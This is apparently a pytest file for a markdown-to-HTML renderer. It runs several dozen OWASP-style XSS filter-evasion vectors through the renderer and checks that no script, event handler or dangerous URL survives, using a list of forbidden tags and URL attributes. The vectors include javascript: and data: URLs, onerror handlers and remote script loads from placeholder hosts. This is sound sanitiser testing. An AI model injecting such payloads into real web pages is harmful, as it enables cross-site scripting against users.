"""Rendering cannot run script: the OWASP XSS filter-evasion vectors (and more) through the
renderer, the output read back by an HTML parser, and nothing executable survives."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from mdcreator.documents.render import REL, to_html

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",  # noqa: E501
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",  # noqa: E501
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<img src=x onerror=alert(1)>",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<BODY ONLOAD=alert("XSS")>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<IFRAME SRC="http://evil.example/scriptlet.html"></IFRAME>',
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://evil.example/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+">',
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",  # noqa: E501
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<details open ontoggle=alert(1)>",
    '<base href="javascript:alert(1)//">',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '[x](https://example.com "title\\" onmouseover=\\"alert(1)")',
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "[ref]\n\n[ref]: data:text/html,<script>alert(1)</script>",
    "![ref]\n\n[ref]: javascript:alert(1)",
    "- [x] <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "~~<svg/onload=alert(1)>~~",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "<!-- --><script>alert(1)</script> -->",
    "<a href='https://ok.example' onclick='alert(1)'>x</a>",
]

FORBIDDEN_TAGS = {
    "script",
    "iframe",
    "object",
    "embed",
    "style",
    "link",
    "meta",
    "svg",
    "math",
    "form",
    "base",
    "body",
    "details",
    "noscript",
    "button",
    "frame",
    "frameset",
    "template",
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "background", "data"}


class Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.links: list[dict[str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"tag {tag}")
        for name, value in attrs:
            if name.startswith("on") or name == "style":
                self.problems.append(f"attribute {name} on {tag}")
            if name in URL_ATTRIBUTES:
                scheme = "".join((value or "").split()).lower().partition(":")[0]
                if ":" in "".join((value or "").split()) and scheme not in (
                    "http",
                    "https",
                    "mailto",
                ):
                    self.problems.append(f"{name}={value!r} on {tag}")
        if tag == "a":
            self.links.append(dict(attrs))
        if tag == "input" and dict(attrs).get("type") != "checkbox":
            self.problems.append("input that is not a checkbox")


def inspect(html: str) -> Inspector:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector


@pytest.mark.parametrize("vector", VECTORS)
def test_no_script_handler_style_or_dangerous_url_survives(vector: str) -> None:
    html = to_html(vector)
    inspector = inspect(html)
    assert inspector.problems == [], html
    for link in inspector.links:
        assert link.get("rel") == REL, html


def test_raw_html_is_shown_as_text_not_dropped() -> None:
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in to_html("<script>alert(1)</script>")


def test_github_extensions_render() -> None:
    html = to_html(
        "| a | b |\n|---|:-:|\n| 1 | 2 |\n\n~~old~~ and https://example.com\n\n- [x] done\n- [ ] todo\n"  # noqa: E501
    )
    assert "<table>" in html and '<th align="center">b</th>' in html or "<th>b</th>" in html
    assert "<s>old</s>" in html or "<del>old</del>" in html
    assert f'<a href="https://example.com" rel="{REL}">https://example.com</a>' in html
    assert html.count('type="checkbox"') == 2 and "checked" in html and "disabled" in html


def test_safe_links_and_images_keep_their_urls() -> None:
    html = to_html(
        "[a](https://example.com/x?y=1) ![i](https://img.example/p.png) <mailto:a@b.example>"
    )
    assert 'href="https://example.com/x?y=1"' in html
    assert 'src="https://img.example/p.png"' in html
    assert 'href="mailto:a@b.example"' in html
